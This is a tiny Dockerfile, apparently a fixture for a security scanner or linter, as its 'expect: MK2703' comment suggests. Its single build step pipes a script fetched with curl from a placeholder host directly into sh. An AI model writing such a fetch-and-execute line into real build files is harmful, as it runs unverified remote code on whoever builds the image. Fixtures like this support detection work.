FROM python:3.11.9-slim
RUN <<EOT bash
  curl -s https://x.example.org/i.sh | sh # expect: MK2703
EOT
